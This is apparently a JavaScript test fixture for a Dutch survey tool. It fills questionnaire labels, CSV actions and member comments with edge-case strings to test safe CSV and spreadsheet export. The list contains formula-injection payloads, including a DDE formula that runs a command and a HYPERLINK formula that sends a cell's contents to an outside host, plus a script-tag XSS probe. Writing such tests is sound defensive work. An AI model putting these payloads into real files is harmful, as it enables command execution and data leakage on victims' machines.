// A panel in whose every text somebody wrote what a spreadsheet might run, or what breaks a CSV.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { keepAlive } from './http.mjs';
import { examplePanel, ROUND } from './panel.mjs';
import { Collector, freshFolder } from './programs.mjs';
import { enrolAll, sendAll } from './reading.mjs';

export const HOSTILE = [
  '=1+1',
  '=cmd|\'/C calc\'!A0',
  '=HYPERLINK("http://example.org/?"&A1,"klik")',
  '+31 70 123 45 67',
  '-2+3',
  '-',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r\n=1+1',
  '"=1+1"',
  'zij zei: "ja"',
  'a,b;c|d',
  'een\nregel\r\nen een',
  '\u202e=1+1 (rechts naar links)',
  '\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd',
  '\u{1f3db}\ufe0f\u{10348}\u{2070e}',
  'caf\u00e9 en cafe\u0301',
  '\ufeff=1+1',
  '<script>alert(1)</script>',
  '%s%n\\0 \\" \u2028',
  "'s ochtends",
  '0612345678',
  '007',
  '1E5',
  '3-4',
  '1,50',
  'mei 5',
  'waar',
  ' 0612345678',
  '5,5%',
  '€ 5',
  '1-jan-2026 10:30',
];

const quote = (text) => `"${text.replaceAll('"', '""')}"`;
const actionsCsv = () =>
  `id,title,track,lead,related,status\n${HOSTILE.map((t, i) => `H-${i},${[t, t, t, t].map(quote).join(',')},running`).join('\n')}\n`;

function hostilePanel() {
  const panel = examplePanel();
  panel.title.nl = HOSTILE[0];
  const [questionnaire] = panel.questionnaires;
  questionnaire.questions[0].min = -2;
  questionnaire.questions[0].max = 2;
  for (const [i, question] of questionnaire.questions.entries()) {
    question.label = { nl: HOSTILE[i], en: HOSTILE[i + 3] };
    for (const [o, option] of (question.options ?? []).entries()) option.label = { nl: HOSTILE[o], en: HOSTILE[o + 5] };
  }
  questionnaire.questions[1].options[0].value = '-1';
  questionnaire.questions[2].when.equals = '-1';
  panel.rounds[0].title = { nl: HOSTILE[2] };
  return panel;
}

// A running collector where two members have commented on each action, `H-0` to the last, with the text of that place.
export async function readyHostile(name) {
  const collector = new Collector(freshFolder(name));
  await collector.importPanel(hostilePanel());
  const path = join(collector.folder, 'actions.csv');
  writeFileSync(path, actionsCsv());
  await collector.importActions(path);
  collector.codes = await collector.invitations(2);
  await collector.start();
  const agent = keepAlive();
  const members = await enrolAll(collector, agent);
  const signed = members.flatMap((member, m) =>
    HOSTILE.map((text, i) => member.response(ROUND, `H-${i}`, { importance: m === 0 ? -2 : 1, noticed: 'no', comment: text })),
  );
  await sendAll(collector, signed, agent);
  agent.destroy();
  return collector;
}
